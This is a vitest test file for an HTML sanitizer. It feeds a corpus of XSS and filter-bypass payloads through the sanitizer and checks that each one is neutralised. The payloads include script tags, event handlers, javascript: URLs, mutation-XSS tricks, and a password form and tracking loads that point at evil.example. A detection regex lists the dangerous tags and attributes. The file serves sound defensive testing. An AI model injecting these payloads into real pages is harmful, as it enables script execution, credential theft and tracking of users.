import { describe, expect, it } from 'vitest';
import { safeHtml } from './safe-html.ts';

/** Ways in which HTML was smuggled past filters, by what they rely on. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="/a.png"/onerror="alert(1)">',
  '<img src="/a.png" srcset="https://evil.example/a 1x">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/\\evil.example/pixel.png">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><rect width=9 height=9 /><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p class="fixed inset-0" id="root" slot="x">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<b onclick="alert(1)" onmouseover=alert(2)>x</b>',
  '<a href="https://ok.example" target="_top" rel="opener" ping="https://evil.example">x</a>',
];

const dangerous =
  /<\/?(?:script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta|template|details|video|audio|source|noscript)\b|\son\w+\s*=|javascript:|vbscript:|data:|evil\.example\/(?:pixel|a\b)|\s(?:style|class|id|slot|srcset|ping)\s*=/i;

describe('HTML of an announcement', () => {
  it.each(corpus)('keeps nothing that runs, loads or disguises of %s', (html) => {
    const [safe] = [safeHtml(html)];
    // What stands there as text, with its brackets escaped, is only read.
    expect(safe.replaceAll(/&lt;.*?&gt;/g, '')).not.toMatch(dangerous);
    expect(safe).not.toMatch(/src="(?!\/[^/\\])/);
    for (const [, href = ''] of safe.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^(?:https:\/\/|mailto:|#|\/(?!\/))/);
  });

  it.each(corpus)('does not change any more when it is cleaned again: %s', (html) => {
    expect(safeHtml(safeHtml(html))).toBe(safeHtml(html));
  });

  it('keeps what an honest text is made of', () => {
    const honest =
      '<h3>Hi</h3><p>One <strong>two</strong><br /><img src="/art/promos/a.avif" alt="A" /></p><ul><li>1</li></ul><table><tbody><tr><td>x</td></tr></tbody></table>';
    expect(safeHtml(honest)).toBe(honest);
  });

  it('links inside stay as they are; links to elsewhere open apart and tell nothing', () => {
    expect(safeHtml('<a href="/rng">Slots</a>')).toBe('<a href="/rng">Slots</a>');
    expect(safeHtml('<a href="https://a.example/x" target="_self">A</a>')).toBe(
      '<a href="https://a.example/x" rel="noopener noreferrer nofollow" target="_blank">A</a>',
    );
  });
});
